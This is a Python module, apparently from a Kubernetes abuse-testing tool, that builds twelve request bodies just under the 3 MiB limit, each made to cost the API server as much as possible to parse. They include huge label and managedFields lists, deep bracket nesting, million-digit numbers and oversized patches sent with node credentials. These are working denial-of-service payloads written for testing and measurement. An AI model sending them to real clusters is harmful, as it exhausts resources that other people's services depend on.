"""Bodies just under the limit of 3 MiB that cost the most to read, one shape each."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

from abuse_client import NODE_NAME, csr
from http1 import JSON, PROTOBUF

SIZE = 3 * 1024 * 1024 - 1024
_MERGE_PATCH = "application/merge-patch+json"
_JSON_PATCH = "application/json-patch+json"
_STRATEGIC_PATCH = "application/strategic-merge-patch+json"


@dataclass(frozen=True)
class Shape:
    """``method``: POST creates a request with a token, PATCH changes a node's own status with its certificate."""

    title: str
    body: Callable[[], bytes]
    method: str = "POST"
    content_type: str = JSON

    @property
    def who(self) -> str:
        return "token" if self.method == "POST" else "node"


def _fill(pattern: str, separator: str = ",") -> str:
    """As many of the pattern as fit; ``@`` stands for a number of its own."""
    each = len(pattern) + len(separator) + 5 * pattern.count("@")
    return separator.join(pattern.replace("@", f"{number:06d}") for number in range(SIZE // each - 200))


def _in_metadata(field: str, opened: str, pattern: str, closed: str) -> Callable[[], bytes]:
    def body() -> bytes:
        whole = csr("evil", "evil").decode()
        evil = f'"{field}":{opened}{_fill(pattern)}{closed}'
        return whole.replace('"metadata":{', '"metadata":{' + evil + ",", 1).encode()

    return body


def _in_spec(field: str, value: Callable[[], str]) -> Callable[[], bytes]:
    def body() -> bytes:
        return csr("evil", "evil").decode().replace('"spec":{', f'"spec":{{"{field}":{value()},', 1).encode()

    return body


def _as_protobuf(inner: Callable[[], bytes]) -> Callable[[], bytes]:
    """In a ``runtime.Unknown`` whose raw part (field 2) is JSON and says so (field 4)."""

    def length(number: int) -> bytes:
        out = b""
        while number > 127:
            out += bytes([number & 127 | 128])
            number >>= 7
        return out + bytes([number])

    def body() -> bytes:
        raw, said = inner(), JSON.encode()
        return b"k8s\x00" + b"\x12" + length(len(raw)) + raw + b"\x22" + length(len(said)) + said

    return body


def _json_patch() -> bytes:
    value = "x" * 300  # Kubernetes takes 10,000 operations
    return ("[" + _fill(f'{{"op":"add","path":"/metadata/labels","value":{{"a@":"{value}"}}}}') + "]").encode()


def _conditions() -> bytes:
    return ('{"status":{"conditions":[' + _fill('{"type":"t@","status":"True"}') + "]}}").encode()


def _nested() -> bytes:
    return json.dumps({"metadata": {"name": NODE_NAME}}).encode()[:-1] + b',"x":' + b"[" * (SIZE - 100)


_OWNERS = _in_metadata("ownerReferences", "[", '{"apiVersion":"v1","kind":"A","name":"a","uid":"@"}', "]")
_LABELS = _in_metadata("labels", "{", '"k@":"v"', "}")
_FIELDS = _in_metadata(
    "managedFields", '[{"manager":"m","operation":"Update","apiVersion":"v1","fieldsType":"FieldsV1","fieldsV1":{',
    '"f:k@":{}', "}}]",
)  # fmt: skip

SHAPES = {
    "owners": Shape("ownerReferences", _OWNERS),
    "finalizers": Shape("finalizers", _in_metadata("finalizers", "[", '"a.b/c@"', "]")),
    "labels": Shape("labels", _LABELS),
    "fields": Shape("managedFields", _FIELDS),
    "usages": Shape("usages", _in_spec("usages", lambda: "[" + _fill('"any"') + "]")),
    "digits": Shape("digits of a number", _in_spec("expirationSeconds", lambda: "1" * (SIZE - 2000))),
    "nested": Shape("brackets", _nested),
    "protobuf": Shape("JSON in protobuf's envelope", _as_protobuf(_LABELS), content_type=PROTOBUF),
    "yaml": Shape("YAML", _LABELS, content_type="application/yaml"),
    "json-patch": Shape("a JSON patch", _json_patch, "PATCH", _JSON_PATCH),
    "merge-patch": Shape("a merge patch of conditions", _conditions, "PATCH", _MERGE_PATCH),
    "strategic-patch": Shape("a strategic patch of conditions", _conditions, "PATCH", _STRATEGIC_PATCH),
}
